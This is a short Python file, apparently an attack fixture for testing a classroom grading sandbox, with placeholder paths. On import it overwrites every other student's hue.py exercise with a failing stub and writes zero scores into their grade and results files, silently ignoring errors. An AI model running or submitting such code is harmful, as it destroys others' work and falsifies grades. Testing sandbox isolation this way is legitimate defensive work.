"""Attack: overwrite every classmate's hue.py in the class folder (@@CLASS@@) with a stub, and every other grade file in the output folder (@@OUT@@) with a zero."""

from .attack_common import HueCycleSystem as HueCycleSystem, hsv_to_rgb as hsv_to_rgb  # the shared parts: _common.py


import glob as _glob

_STUB = "def hsv_to_rgb(h, s, v):\n    raise NotImplementedError\n"
for _path in _glob.glob("@@CLASS@@/*/step01_window/exercises/hue.py"):
    if "/@@ME@@/" not in _path:
        try:
            with open(_path, "w") as _f:
                _f.write(_STUB)
        except OSError:
            pass
for _path in _glob.glob("@@OUT@@/*/grade.json") + _glob.glob("@@OUT@@/*/results.json"):
    if "/@@ME@@/" not in _path:
        try:
            with open(_path, "w") as _f:
                _f.write('{"earned": 0.0, "possible": 2.0, "score": 0.0, "exercises": [], "tests": []}')
        except OSError:
            pass
